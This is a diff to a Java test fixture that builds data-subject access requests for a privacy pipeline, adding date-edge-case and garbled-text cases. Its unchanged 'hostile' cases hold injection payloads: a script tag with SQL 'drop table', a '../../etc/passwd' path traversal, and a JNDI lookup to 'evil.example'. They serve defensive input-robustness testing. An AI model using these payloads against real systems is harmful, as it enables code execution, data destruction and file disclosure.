@@ -2,6 +2,7 @@ package io.genesysdsr.pipeline;
 
 import java.time.Duration;
 import java.time.Instant;
+import java.time.LocalDate;
 import java.time.ZoneOffset;
 import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
@@ -31,6 +32,8 @@ record Asking(
         @Nullable String country,
         @Nullable String language) {
 
+    static final LocalDate DAY = LocalDate.now(ZoneOffset.UTC).minusDays(20);
+
     private static final Known ADA = new Known("EMAIL", "Ada.Lovelace@Example.ORG");
     private static final Known GRACE = new Known("EMAIL", "grace@example.org");
 
@@ -45,8 +48,8 @@ record Asking(
         return identifiers.stream().noneMatch(i -> i.kind().equals("MYSPACE"));
     }
 
-    /** Twenty that differ in all that a channel could spoil; the last three repeat earlier ones. */
-    static List<Asking> twenty() {
+    /** They differ in all that a channel could spoil; the last three repeat earlier ones. */
+    static List<Asking> all() {
         String claim = Instant.now()
                 .minus(Duration.ofDays(3))
                 .truncatedTo(ChronoUnit.SECONDS)
@@ -56,6 +59,7 @@ record Asking(
         all.addAll(manifold(claim));
         all.addAll(faulty(claim));
         all.addAll(hostile(claim));
+        all.addAll(dated(claim));
         all.add(all.get(0).as("german-again", "german"));
         all.add(all.get(1).as("british-joined", "british-joined"));
         all.add(all.get(2).as("american-conflicting", "american").knownBy(new Known("EXTERNAL_ID", "C-000418")));
@@ -140,6 +144,16 @@ record Asking(
                         "<script>alert('x')</script>'; drop table request; --",
                         new Known("EXTERNAL_ID", "../../etc/passwd"),
                         new Known("EXTERNAL_ID", "${jndi:ldap://evil.example}")));
+    }
+
+    private static List<Asking> dated(String claim) {
+        return List.of(
+                of("of-a-day", "GDPR", "ACCESS", DAY.toString(), "Hedy", new Known("EMAIL", "hedy@example.org")),
+                of("spaced", "GDPR", "ACCESS", DAY + " 09:12:00+01:00", "Emmy", new Known("EMAIL", "emmy@example.org")),
+                of("ancient", "GDPR", "ACCESS", "1969-07-20T20:17:40Z", "Neil", ADA)
+                        .from("Eagle", "en"),
+                of("timeless", "GDPR", "FORGET_ME", "infinity", "Georg", ADA),
+                of("garbled", "GDPR", "ACCESS", claim, "J\ufffdrgen", new Known("EXTERNAL_ID", "Gr\ufffd\ufffde")));
     }
 
     private static Asking of(
